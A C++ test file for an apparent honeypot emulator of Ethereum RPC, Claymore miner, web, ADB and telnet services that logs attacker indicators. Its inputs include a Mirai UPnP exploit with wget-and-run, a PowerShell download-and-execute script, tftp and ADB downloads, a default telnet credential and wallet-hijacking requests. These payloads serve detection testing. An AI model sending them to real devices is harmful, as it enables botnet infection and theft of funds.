#include <rapidjson/document.h>

#include <catch2/catch.hpp>
#include <string>
#include <utility>
#include <vector>

#include "converse/emulation.hpp"
#include "converse/emulator.hpp"
#include "converse/ethereum_node.hpp"
#include "converse/http_request.hpp"
#include "converse/raw_transaction.hpp"

using namespace scanscope;

namespace {

constexpr uint64_t t0 = 1700000000ULL * 1000000000ULL;  // 2023-11-14T22:13:20Z

emulation_plan test_plan() {
  emulation_plan plan;
  REQUIRE(plan_emulation("all", {}, plan).empty());
  plan.secret[0] = 0x0123456789ABCDEFULL;
  plan.secret[1] = 0xFEDCBA9876543210ULL;
  return plan;
}

struct exchange {
  emulation_turn turn;
  std::string answer;
  std::string body() const { return answer.substr(answer.find("\r\n\r\n") + 4); }
};

exchange ask(const emulation_plan& plan, emulated_protocol protocol, const std::string& request,
             uint32_t number = 0) {
  emulation_context context{&plan, t0, 42, number};
  std::string answer(max_answer_data, '\0');
  exchange x;
  x.turn = emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
                           request.size(), reinterpret_cast<uint8_t*>(answer.data()));
  x.answer = answer.substr(0, x.turn.answer_length);
  return x;
}

std::string post(const std::string& body, const char* extra = "") {
  return "POST / HTTP/1.1\r\nHost: 198.19.0.5:8545\r\nContent-Type: application/json\r\n" +
         std::string(extra) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

rapidjson::Document json_of(const std::string& text) {
  rapidjson::Document d;
  d.Parse(text.c_str());
  REQUIRE_FALSE(d.HasParseError());
  return d;
}

/** A turn's indicators as (kind, text), in the order it found them. */
std::vector<std::pair<indicator_kind, std::string>> indicators_of(const emulation_turn& turn) {
  std::vector<std::pair<indicator_kind, std::string>> out;
  for (unsigned i = 0; i < turn.indicator_count; ++i) {
    out.emplace_back(turn.indicators[i].kind, std::string(turn.indicators[i].value()));
  }
  return out;
}

http_read read(const std::string& text, http_request& r, size_t max = 4096) {
  return read_http_request(reinterpret_cast<const uint8_t*>(text.data()), text.size(), max, r);
}

}  // namespace

TEST_CASE("HTTP requests are framed by their headers and Content-Length", "[emulation]") {
  http_request r;
  const std::string whole = post(R"({"a":1})");
  CHECK(read(whole, r) == http_read::complete);
  CHECK(r.method == "POST");
  CHECK(r.target == "/");
  CHECK(r.body == R"({"a":1})");
  CHECK(r.length == whole.size());
  CHECK(r.keep_alive);
  // Cut anywhere before the end: more is needed.
  for (size_t cut : {size_t{3}, size_t{20}, whole.size() - 1}) {
    CHECK(read(whole.substr(0, cut), r) == http_read::incomplete);
  }
  // Two requests back to back: the first is taken, its length says where the next starts.
  CHECK(read(whole + whole, r) == http_read::complete);
  CHECK(r.length == whole.size());
  CHECK(read("GET / HTTP/1.0\r\n\r\n", r) == http_read::complete);
  CHECK_FALSE(r.keep_alive);
  CHECK(read("GET / HTTP/1.1\r\nConnection: close\r\n\r\n", r) == http_read::complete);
  CHECK_FALSE(r.keep_alive);
  CHECK(read("\x16\x03\x01\x02 hello", r) == http_read::malformed);
  CHECK(read("\x16\x03\x01", r) == http_read::malformed);
  CHECK(read("GET / SIP/2.0\r\n\r\n", r) == http_read::malformed);
  CHECK(read("POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef", r) ==
        http_read::malformed);
  CHECK(read("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n", r) ==
        http_read::malformed);
  CHECK(read("POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\n", r) == http_read::too_large);
  CHECK(read(std::string(5000, 'A'), r, 4096) == http_read::too_large);
  CHECK(read(std::string(5000, 'a'), r, 4096) == http_read::malformed);
  CHECK(read("GET /" + std::string(5000, 'a'), r, 4096) == http_read::too_large);
}

TEST_CASE("the Ethereum node answers the recon, unlock and send steps", "[emulation]") {
  const emulation_plan plan = test_plan();
  exchange x = ask(plan, emulated_protocol::ethereum,
                   post(R"({"jsonrpc":"2.0","id":7,"method":"eth_accounts","params":[]})"));
  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
  CHECK_THAT(x.answer, Catch::Contains("Content-Type: application/json"));
  CHECK_THAT(x.answer, Catch::Contains("Date: Tue, 14 Nov 2023 22:13:20 GMT"));
  rapidjson::Document d = json_of(x.body());
  CHECK(d["id"].GetInt() == 7);
  REQUIRE(d["result"].IsArray());
  REQUIRE(d["result"].Size() == 2);
  const std::string first = d["result"][0].GetString();
  CHECK(first.size() == 42);
  CHECK(first.rfind("0x", 0) == 0);
  CHECK(x.turn.steps == step_bit(emulated_step::eth_recon));
  CHECK(x.turn.consumed > 0);
  CHECK_FALSE(x.turn.close);
  // The same accounts on every call and in every conversation of the sensor.
  exchange again = ask(plan, emulated_protocol::ethereum,
                       post(R"({"jsonrpc":"2.0","id":8,"method":"eth_coinbase"})"), 5);
  CHECK(json_of(again.body())["result"].GetString() == first);
  // Another sensor's secret: other accounts.
  emulation_plan other = plan;
  other.secret[0] ^= 1;
  CHECK(json_of(ask(other, emulated_protocol::ethereum, post(R"({"id":1,"method":"eth_coinbase"})"))
                    .body())["result"]
            .GetString() != first);

  x = ask(plan, emulated_protocol::ethereum,
          post(R"({"jsonrpc":"2.0","id":"u1","method":"personal_unlockAccount",)"
               R"("params":["0x407d73d8a49eeb85d32cf465507dd71d507100c1","hunter2",0]})"));
  d = json_of(x.body());
  CHECK(std::string(d["id"].GetString()) == "u1");
  CHECK(d["result"].GetBool());
  CHECK(x.turn.steps == step_bit(emulated_step::eth_unlock));
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_passphrase);
  CHECK(x.turn.indicators[0].value().empty());  // withheld unless kept
  emulation_plan keeping = plan;
  keeping.keep_secrets = true;
  x = ask(keeping, emulated_protocol::ethereum,
          post(R"({"id":2,"method":"personal_unlockAccount","params":["0x1","hunter2",0]})"));
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].value() == "hunter2");

  x = ask(plan, emulated_protocol::ethereum,
          post(R"({"jsonrpc":"2.0","id":3,"method":"eth_sendTransaction","params":[{)"
               R"("from":"0x407D73D8A49EEB85D32CF465507DD71D507100C1",)"
               R"("to":"0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd","value":"0x1"}]})"));
  d = json_of(x.body());
  const std::string hash = d["result"].GetString();
  CHECK(hash.size() == 66);
  CHECK(x.turn.steps == step_bit(emulated_step::eth_send));
  REQUIRE(x.turn.indicator_count == 2);
  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_recipient);
  CHECK(x.turn.indicators[0].value() == "0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd");
  CHECK(x.turn.indicators[1].kind == indicator_kind::eth_sender);
  CHECK(x.turn.indicators[1].value() == "0x407d73d8a49eeb85d32cf465507dd71d507100c1");
  // Another request of the conversation: another hash.
  CHECK(json_of(ask(plan, emulated_protocol::ethereum,
                    post(R"({"id":3,"method":"eth_sendRawTransaction","params":["0xf86b"]})"), 1)
                    .body())["result"]
            .GetString() != hash);

  x = ask(plan, emulated_protocol::ethereum,
          post(R"({"id":4,"method":"miner_setEtherbase",)"
               R"("params":["0xabababababababababababababababababababab"]})"));
  CHECK(x.turn.steps == step_bit(emulated_step::eth_miner));
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_etherbase);
}

TEST_CASE(
    "requests read as they pass give the steps and indicators an answer would, and no "
    "answer",
    "[emulation]") {
  const emulation_plan plan = test_plan();
  const std::pair<emulated_protocol, std::string> requests[] = {
      {emulated_protocol::ethereum,
       post(R"([{"id":1,"method":"eth_accounts"},{"id":2,"method":"eth_sendTransaction",)"
            R"("params":[{"from":"0x407d73d8a49eeb85d32cf465507dd71d507100c1",)"
            R"("to":"0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd"}]},{"id":3,"method":"nope"}])")},
      {emulated_protocol::ethereum,
       post(R"({"id":4,"method":"personal_unlockAccount","params":["0x1","pw",0]})")},
      {emulated_protocol::http,
       "POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
       "`cd /var; wget http://192.0.2.66/m -O m`"},
      {emulated_protocol::ethereum, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}};
  for (const auto& [protocol, request] : requests) {
    CAPTURE(request);
    const exchange answered = ask(plan, protocol, request);
    emulation_context context{&plan, t0, 42, 0};
    context.read_only = true;
    std::string unused(max_answer_data, '\0');
    const emulation_turn read =
        emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
                        request.size(), reinterpret_cast<uint8_t*>(unused.data()));
    CHECK(answered.turn.answer_length > 0);
    CHECK(read.answer_length == 0);
    CHECK(read.consumed == answered.turn.consumed);
    CHECK(read.steps == answered.turn.steps);
    CHECK(indicators_of(read) == indicators_of(answered.turn));
  }
}

TEST_CASE("a raw transaction's recipient is read from its RLP, of every type", "[emulation]") {
  // Signed by ethers 6 (Wallet.signTransaction, key 0x22..22, nonce 7, value 5).
  const char* legacy =
      "0xf864078504a817c800825208943a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a058026a0109847f640d5c002"
      "2e2ea8d50359ac6dc8b8caccdd03700dfe454a31bf0bf207a07f30485c4990f305234b7895731755a0cefd94030c"
      "4"
      "5adf9c535d90055b0edec";
  const char* access_list =
      "0x01f86601078504a817c800825208944b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b0580c001a03aa7f8a493"
      "e91b22fb0e7a33d3fb4fce4d3925604efceb41f1958aa66fcd0e5ca0676cd93d2b5e2e63d3c598274e0097e5e9a7"
      "4"
      "cd3fff9f5221dd1f178f8ecdcd3";
  const std::string eip1559 =
      "0x02f86201070103825208945c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c0580c001a0f7fe8df81fd1c2be"
      "40dd3a7ca32f64a121e0e030076f48d667afa648cc05f08aa003103a96ec10f603d41ad3c1bc4fdf6a38d148cdf"
      "caf35b86eb9c6b7e9b7ffbd";
  const char* creation =
      "0x02f85101070103830186a08005826001c080a0643d4d527fb7ca02400a6fa77015aa18f8c9d3e6492beafeefa7"
      "98612c4e6d24a0242090e0d1559b7bed09e5cd49b231b057644d4d9608ccc8e01e4685c08d5448";
  CHECK(raw_transaction_recipient(legacy) == "0x3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a3a");
  CHECK(raw_transaction_recipient(access_list) == "0x4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b4b");
  CHECK(raw_transaction_recipient(eip1559) == "0x5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c");
  // EIP-155's own example: to 0x3535...35.
  CHECK(raw_transaction_recipient(
            "0xf86c098504a817c800825208943535353535353535353535353535353535353535880de0b6b3a7640000"
            "8025a028ef61340bd939bc2195fe537567866003e1a15d3c71ff63e1590620aa636276a067cbe9d8997f76"
            "1aecb703304b3800ccf555c9f3dc64214b297fb1966a3b6d83") ==
        "0x3535353535353535353535353535353535353535");
  // A contract creation names no recipient; neither do texts that are not a transaction.
  CHECK_FALSE(raw_transaction_recipient(creation));
  for (const std::string& bad :
       {std::string(""), std::string("0x"), std::string("f864"), std::string("0xf86"),
        std::string("0xzz"), eip1559.substr(0, 60), "0x05" + eip1559.substr(4),
        "0x02f9ffff" + eip1559.substr(8), "0x02ff" + eip1559.substr(6),
        "0x02f862010701038252089f" + eip1559.substr(24), std::string("0x02f8620107010382520894")}) {
    CAPTURE(bad);
    CHECK_FALSE(raw_transaction_recipient(bad));
  }
  CHECK_FALSE(raw_transaction_recipient("0x" + std::string(max_raw_transaction_hex + 2, 'f')));

  // The node takes the recipient as it takes eth_sendTransaction's `to`.
  const emulation_plan plan = test_plan();
  const exchange x =
      ask(plan, emulated_protocol::ethereum,
          post(R"({"id":9,"method":"eth_sendRawTransaction","params":[")" + eip1559 + R"("]})"));
  CHECK(x.turn.steps == step_bit(emulated_step::eth_send));
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_recipient);
  CHECK(x.turn.indicators[0].value() == "0x5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c5c");
}

TEST_CASE("the Ethereum node answers batches, errors and never says the client's words back",
          "[emulation]") {
  const emulation_plan plan = test_plan();
  exchange x = ask(plan, emulated_protocol::ethereum,
                   post(R"([{"id":1,"method":"eth_blockNumber"},{"id":2,"method":"net_version"},)"
                        R"({"id":3,"method":"rm -rf /<script>"}])"));
  rapidjson::Document d = json_of(x.body());
  REQUIRE(d.IsArray());
  REQUIRE(d.Size() == 3);
  // The block number follows the clock: 12 s a block since the merge (block 15537394 at
  // 1663224162).
  const uint64_t expected = 15537394 + (1700000000ULL - 1663224162ULL) / 12;
  CHECK(std::stoull(d[0]["result"].GetString(), nullptr, 16) == expected);
  CHECK(std::string(d[1]["result"].GetString()) == "1");
  CHECK(d[2]["error"]["code"].GetInt() == -32601);
  CHECK(x.body().find("rm -rf") == std::string::npos);
  CHECK(x.body().find("script") == std::string::npos);
  // An id that is an object, or a long string, is not said back.
  x = ask(plan, emulated_protocol::ethereum, post(R"({"id":{"evil":1},"method":"net_version"})"));
  CHECK(json_of(x.body())["id"].IsNull());
  x = ask(plan, emulated_protocol::ethereum,
          post(R"({"id":")" + std::string(100, 'x') + R"(","method":"net_version"})"));
  CHECK(json_of(x.body())["id"].IsNull());
  // Not JSON: JSON-RPC's parse error, counted, the connection kept.
  x = ask(plan, emulated_protocol::ethereum, post("{not json"));
  CHECK(json_of(x.body())["error"]["code"].GetInt() == -32700);
  CHECK(x.turn.faulty);
  CHECK(x.turn.fault == conversation_counter::emulation_malformed_json);
  CHECK_FALSE(x.turn.close);
  // Not HTTP: 400 and close.
  x = ask(plan, emulated_protocol::ethereum, "\x16\x03\x01 hello there\r\n\r\n");
  CHECK(x.answer.rfind("HTTP/1.1 400 Bad Request\r\n", 0) == 0);
  CHECK(x.turn.fault == conversation_counter::emulation_malformed_http);
  CHECK(x.turn.close);
  // A plain GET: 200 with nothing, as Geth's health check.
  x = ask(plan, emulated_protocol::ethereum, "GET / HTTP/1.1\r\nHost: x\r\n\r\n");
  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
  CHECK_THAT(x.answer, Catch::Contains("Content-Length: 0\r\n"));
  // A request not whole yet: nothing taken, nothing answered.
  const std::string whole = post(R"({"id":1,"method":"eth_accounts"})");
  x = ask(plan, emulated_protocol::ethereum, whole.substr(0, whole.size() - 3));
  CHECK(x.turn.consumed == 0);
  CHECK(x.turn.answer_length == 0);
  CHECK_FALSE(x.turn.faulty);
  // A batch beyond the bound: one error.
  std::string batch = "[";
  for (unsigned i = 0; i <= max_rpc_batch; ++i) {
    batch += std::string(i ? "," : "") + R"({"id":1,"method":"net_version"})";
  }
  x = ask(plan, emulated_protocol::ethereum, post(batch + "]"));
  CHECK(json_of(x.body())["error"]["code"].GetInt() == -32600);
}

TEST_CASE("the Claymore API reports a rig and records control commands", "[emulation]") {
  const emulation_plan plan = test_plan();
  exchange x = ask(plan, emulated_protocol::claymore,
                   R"({"id":0,"jsonrpc":"2.0","method":"miner_getstat1"})"
                   "\n");
  rapidjson::Document d = json_of(x.answer);
  REQUIRE(d["result"].IsArray());
  CHECK(d["result"].Size() == 9);
  CHECK(x.turn.steps == step_bit(emulated_step::miner_status));
  CHECK(x.turn.consumed == 50);  // the object; the newline is taken with the next request
  // A reboot.bat that downloads and runs a program (its hex as the remote manager sends it;
  // its SHA-256 and size from sha256sum and wc -c).
  x = ask(plan, emulated_protocol::claymore,
          R"({"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat",")"
          "706f7765727368656c6c202d632022284e65772d4f626a656374204e65742e576562436c69656e7429"
          "2e446f776e6c6f616446696c652827687474703a2f2f3139322e302e322e36362f6d2e657865272c27"
          "6d2e6578652729220d0a6d2e6578650d0a"
          R"("]})");
  CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
  const std::vector<std::pair<indicator_kind, std::string>> script = {
      {indicator_kind::miner_command, "miner_file reboot.bat"},
      {indicator_kind::file_sha256,
       "503461c858f79d7fa13fc3296bab89fb3c5671535e17fdba64ec0151f639b990"},
      {indicator_kind::file_name, "reboot.bat 99 bytes"},
      {indicator_kind::shell_command,
       R"c(powershell -c "(New-Object Net.WebClient).DownloadFile('http://192.0.2.66/m.exe','m.exe')")c"},
      {indicator_kind::url, "http://192.0.2.66/m.exe"},
      {indicator_kind::shell_command, "m.exe"}};
  CHECK(indicators_of(x.turn) == script);
  // A config.txt that sends the rig's mining to another wallet.
  x = ask(plan, emulated_protocol::claymore,
          R"({"id":0,"method":"miner_file","params":["config.txt",")"
          "2d65706f6f6c206574682d6575312e6e616e6f706f6f6c2e6f72673a39393939202d6577616c2030"
          "78414241424142414241424142414241424142414241424142414241424142414241424142414241"
          "422e72696731202d6570737720780a"
          R"("]})");
  const std::vector<std::pair<indicator_kind, std::string>> config = {
      {indicator_kind::miner_command, "miner_file config.txt"},
      {indicator_kind::file_sha256,
       "083775ca2f00588f1ed159652cb04308cd37b41ebdf0d8a43fc3db3891212d72"},
      {indicator_kind::file_name, "config.txt 95 bytes"},
      {indicator_kind::eth_etherbase, "0xabababababababababababababababababababab"}};
  CHECK(indicators_of(x.turn) == config);
  // Content that is not hex (or of an odd length) is not read: the command alone.
  for (const char* content : {"6g", "657"}) {
    x = ask(plan, emulated_protocol::claymore,
            std::string(R"({"id":0,"method":"miner_file","params":["reboot.bat",")") + content +
                R"("]})");
    CAPTURE(content);
    CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
    CHECK(x.turn.indicator_count == 1);
  }
  x = ask(plan, emulated_protocol::claymore, R"({"id":0,"method":"miner_get)");
  CHECK(x.turn.consumed == 0);
  CHECK_FALSE(x.turn.faulty);
  x = ask(plan, emulated_protocol::claymore, "GET / HTTP/1.1\r\n\r\n");
  CHECK(x.turn.faulty);
  CHECK(x.turn.close);
}

TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carries", "[emulation]") {
  const emulation_plan plan = test_plan();
  // Mirai's Realtek UPnP exploit (CVE-2014-8361), as its source sends it.
  const std::string soap =
      "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping>"
      "<NewInternalClient>`cd /var; wget http://192.0.2.66/bins/mirai.mips -O m; chmod 777 m; "
      "./m`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>";
  const std::string request =
      "POST /picsdesc.xml HTTP/1.1\r\nHost: 198.19.0.5:52869\r\n"
      "Content-Length: " +
      std::to_string(soap.size()) + "\r\n\r\n" + soap;
  exchange x = ask(plan, emulated_protocol::http, request);
  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
  CHECK(x.turn.steps == step_bit(emulated_step::http_request));
  CHECK(x.turn.consumed == request.size());
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].kind == indicator_kind::url);
  CHECK(x.turn.indicators[0].value() == "http://192.0.2.66/bins/mirai.mips");
  // A SOAP envelope's namespaces are attributes, not downloads.
  emulation_turn soap_turn;
  note_urls(
      "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">"
      "$(wget http://192.0.2.66/h -O /tmp/h)</s:Envelope>",
      soap_turn);
  REQUIRE(soap_turn.indicator_count == 1);
  CHECK(soap_turn.indicators[0].value() == "http://192.0.2.66/h");
}

TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do", "[emulation]") {
  emulation_plan plan;
  CHECK(plan_emulation("none", {}, plan).empty());
  CHECK_FALSE(plan.any());
  REQUIRE(plan_emulation("ethereum,http", {"ethereum=8546,8600-8601"}, plan).empty());
  emulated_protocol p;
  REQUIRE(plan.protocol_of(8545, p));
  CHECK(p == emulated_protocol::ethereum);
  REQUIRE(plan.protocol_of(8601, p));
  CHECK(p == emulated_protocol::ethereum);
  REQUIRE(plan.protocol_of(52869, p));
  CHECK(p == emulated_protocol::http);
  CHECK_FALSE(plan.protocol_of(3333, p));
  CHECK_THAT(plan_emulation("ethereum,ssh", {}, plan), Catch::Contains("'ssh' is not a protocol"));
  CHECK_THAT(plan_emulation("ethereum", {"claymore=3334"}, plan),
             Catch::Contains("which --emulate does not name"));
  CHECK_THAT(plan_emulation("ethereum,http", {"http=8545"}, plan),
             Catch::Contains("port 8545 is given to both ethereum and http"));
  CHECK_THAT(plan_emulation("http", {"http=80x"}, plan), Catch::Contains("'80x' is not a port"));
  CHECK_THAT(plan_emulation("http", {"8080"}, plan), Catch::Contains("is not PROTOCOL=PORTS"));
}

namespace {

/** A conversation of one stateful protocol: its state block, and each request's exchange. */
struct stateful {
  emulation_plan plan = test_plan();
  emulated_protocol protocol;
  std::vector<uint8_t> state = std::vector<uint8_t>(max_state_bytes, 0);
  uint32_t requests = 0;

  explicit stateful(emulated_protocol p) : protocol(p) {}

  exchange ask(const std::string& bytes) {
    emulation_context context{&plan, t0, 42, requests++, state.data()};
    std::string answer(max_answer_data, '\0');
    exchange x;
    x.turn = emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(bytes.data()),
                             bytes.size(), reinterpret_cast<uint8_t*>(answer.data()));
    x.answer = answer.substr(0, x.turn.answer_length);
    return x;
  }
};

void put_le32(std::string& s, uint32_t v) {
  for (int i = 0; i < 4; ++i) {
    s += static_cast<char>(v >> (8 * i));
  }
}

uint32_t le32(const std::string& s, size_t at) {
  uint32_t v = 0;
  for (int i = 3; i >= 0; --i) {
    v = v << 8 | static_cast<uint8_t>(s[at + i]);
  }
  return v;
}

/** An ADB message as adb's protocol.txt lays it out. */
std::string adb_message(const char* command, uint32_t arg0, uint32_t arg1,
                        const std::string& data) {
  std::string m;
  const uint32_t c = le32(std::string(command, 4), 0);
  put_le32(m, c);
  put_le32(m, arg0);
  put_le32(m, arg1);
  put_le32(m, static_cast<uint32_t>(data.size()));
  uint32_t sum = 0;
  for (char b : data) {
    sum += static_cast<uint8_t>(b);
  }
  put_le32(m, sum);
  put_le32(m, c ^ 0xFFFFFFFFu);
  return m + data;
}

/** The commands of the messages in an answer, in order. */
std::vector<std::string> adb_commands(const std::string& answer) {
  std::vector<std::string> out;
  for (size_t at = 0; at + 24 <= answer.size(); at += 24 + le32(answer, at + 12)) {
    out.push_back(answer.substr(at, 4));
  }
  return out;
}

std::string sync_request(const char* id, const std::string& body) {
  std::string r(id, 4);
  put_le32(r, static_cast<uint32_t>(body.size()));
  return r + body;
}

}  // namespace

TEST_CASE("the ADB device connects, runs nothing and hashes what is pushed", "[emulation]") {
  stateful adb(emulated_protocol::adb);
  exchange x = adb.ask(adb_message("CNXN", 0x01000001, 256 * 1024, "host::features=cmd"));
  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"CNXN"});
  CHECK(le32(x.answer, 8) == 4096);  // the device's message size
  CHECK_THAT(x.answer, Catch::Contains("device::ro.product.name="));
  CHECK(x.turn.steps == step_bit(emulated_step::adb_connect));

  // A shell command: OKAY and CLSE, nothing run; the command and its URL kept.
  const std::string command = "cd /data/local/tmp;  wget http://192.0.2.66/x.sh";
  x = adb.ask(adb_message("OPEN", 7, 0, "shell:" + command + std::string(1, '\0')));
  CHECK(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "CLSE"});
  CHECK(le32(x.answer, 8) == 7);  // to the client's stream
  CHECK(x.turn.steps == step_bit(emulated_step::adb_shell));
  REQUIRE(x.turn.indicator_count == 2);
  CHECK(x.turn.indicators[0].kind == indicator_kind::shell_command);
  CHECK(x.turn.indicators[0].value() == "cd /data/local/tmp; wget http://192.0.2.66/x.sh");
  CHECK(x.turn.indicators[1].value() == "http://192.0.2.66/x.sh");

  // A push: the sync service, STAT of the folder, then SEND, DATA in two writes, DONE.
  x = adb.ask(adb_message("OPEN", 9, 0, std::string("sync:") + '\0'));
  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY"});
  const uint32_t sync = le32(x.answer, 4);
  x = adb.ask(adb_message("WRTE", 9, sync, sync_request("STAT", "/data/local/tmp")));
  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "WRTE"});
  const std::string stat = x.answer.substr(24 + 24);  // after OKAY and WRTE's header
  CHECK(stat.substr(0, 4) == "STAT");
  CHECK(le32(stat, 4) == 040771);                      // a folder
  const std::string file = "#!/bin/sh\necho mined\n";  // sha256 below, from sha256sum
  std::string push =
      sync_request("SEND", "/data/local/tmp/x.sh,33261") + sync_request("DATA", file.substr(0, 10));
  x = adb.ask(adb_message("WRTE", 9, sync, push.substr(0, 30)));
  CHECK(adb_commands(x.answer) == std::vector<std::string>{"OKAY"});
  std::string rest = push.substr(30) + sync_request("DATA", file.substr(10)) + "DONE";
  put_le32(rest, 1700000000);
  x = adb.ask(adb_message("WRTE", 9, sync, rest));
  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "WRTE"});
  CHECK(x.answer.substr(24 + 24, 4) == "OKAY");
  CHECK(x.turn.steps == step_bit(emulated_step::adb_push));
  REQUIRE(x.turn.indicator_count == 2);
  CHECK(x.turn.indicators[0].kind == indicator_kind::file_sha256);
  CHECK(x.turn.indicators[0].value() ==
        "06a0730e64560279381ecabcb316c481d48d0095121f8d0f9095506a9bed2ec5");
  CHECK(x.turn.indicators[1].value() == "/data/local/tmp/x.sh 21 bytes");

  // Not ADB: closed, counted.
  x = adb.ask(std::string(24, 'A'));
  CHECK(x.turn.faulty);
  CHECK(x.turn.fault == conversation_counter::emulation_malformed_adb);
  CHECK(x.turn.close);
  // A message still arriving waits.
  const std::string whole = adb_message("OPEN", 11, 0, "shell:id");
  CHECK(adb.ask(whole.substr(0, 30)).turn.consumed == 0);
}

TEST_CASE("the telnet device prompts, logs in and takes commands without echoing them",
          "[emulation]") {
  stateful telnet(emulated_protocol::telnet);
  emulation_context context{&telnet.plan, t0, 42, 0, telnet.state.data()};
  std::string greeting(max_answer_data, '\0');
  const emulation_turn hello =
      greet(emulated_protocol::telnet, context, reinterpret_cast<uint8_t*>(greeting.data()));
  CHECK(greeting.substr(0, hello.answer_length) == "\r\nlogin: ");
  // Mirai's option answers first, then the user name.
  exchange x = telnet.ask("\xff\xfd\x01\xff\xfb\x1f");
  CHECK(x.turn.consumed == 6);
  CHECK(x.answer.empty());
  x = telnet.ask("root\r\n");
  CHECK(x.answer == "Password: ");
  x = telnet.ask("xc3511\r\0");
  CHECK_THAT(x.answer, Catch::EndsWith("# "));
  CHECK(x.turn.steps == step_bit(emulated_step::telnet_login));
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].kind == indicator_kind::credential);
  CHECK(x.turn.indicators[0].value() == "root:xc3511");
  x = telnet.ask("enable\r\n");
  CHECK(x.answer == "# ");
  CHECK(x.turn.steps == step_bit(emulated_step::telnet_shell));
  x = telnet.ask("/bin/busybox MIRAI\r\n");
  CHECK(x.answer.find("MIRAI") == std::string::npos);  // never said back
  x = telnet.ask("cd /tmp || cd /var/run; /bin/busybox tftp -g -l dvrHelper -r mips 192.0.2.7\n");
  CHECK(x.turn.steps ==
        (step_bit(emulated_step::telnet_shell) | step_bit(emulated_step::telnet_download)));
  REQUIRE(x.turn.indicator_count == 2);
  CHECK(x.turn.indicators[1].kind == indicator_kind::url);
  CHECK(x.turn.indicators[1].value() == "tftp://192.0.2.7/mips");
  // A line still arriving waits; "exit" closes.
  CHECK(telnet.ask("wget http://192.0.2.7/").turn.consumed == 0);
  x = telnet.ask("exit\r\n");
  CHECK(x.turn.close);
}

TEST_CASE("telnet takes a line end split over segments, and asks again for an empty name",
          "[emulation]") {
  stateful telnet(emulated_protocol::telnet);
  exchange x = telnet.ask("\r\n");
  CHECK(x.answer == "login: ");
  x = telnet.ask("root\r");
  CHECK(x.answer == "Password: ");
  x = telnet.ask("\n");  // the rest of the line end: not an empty password
  CHECK(x.turn.consumed == 1);
  CHECK(x.answer.empty());
  x = telnet.ask("admin\r\n");
  REQUIRE(x.turn.indicator_count == 1);
  CHECK(x.turn.indicators[0].value() == "root:admin");
  // An option command whose option byte is still coming waits (found by fuzz_emulation): the
  // two whole sequences before it are taken, never more than was sent.
  stateful other(emulated_protocol::telnet);
  CHECK(other.ask("\xff\x04\xff\xff\xff\xfd").turn.consumed == 4);
}

TEST_CASE("indicator text is printable ASCII", "[emulation]") {
  emulation_turn turn;
  turn.add_indicator(indicator_kind::credential, std::string("ro\0ot:\xff\x1b[31m", 12));
  REQUIRE(turn.indicator_count == 1);
  CHECK(turn.indicators[0].value() == "ro.ot:..[31m");
}
